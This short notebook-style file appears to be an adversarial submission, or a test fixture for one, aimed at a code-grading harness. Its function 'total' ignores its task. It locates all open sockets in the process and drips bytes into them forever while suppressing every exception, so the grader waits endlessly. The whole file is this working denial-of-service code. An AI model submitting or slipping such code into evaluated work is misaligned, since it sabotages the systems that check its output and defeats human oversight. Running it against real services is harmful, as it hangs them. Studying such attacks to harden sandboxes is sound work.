# ---
# jupyter:
#   attack:
#     tries: Sends a message a byte at a time, so that something always comes and never ends.
# ---

# %% answer="total"
def total(x):
    import gc
    import socket
    import struct
    import time

    lines = [o for o in gc.get_objects() if isinstance(o, socket.socket)]
    for line in lines:
        line.sendall(struct.pack("<Q", 10_000))
    while True:
        try:
            for line in lines:
                line.sendall(b"x")
            time.sleep(0.05)
        except BaseException:
            pass
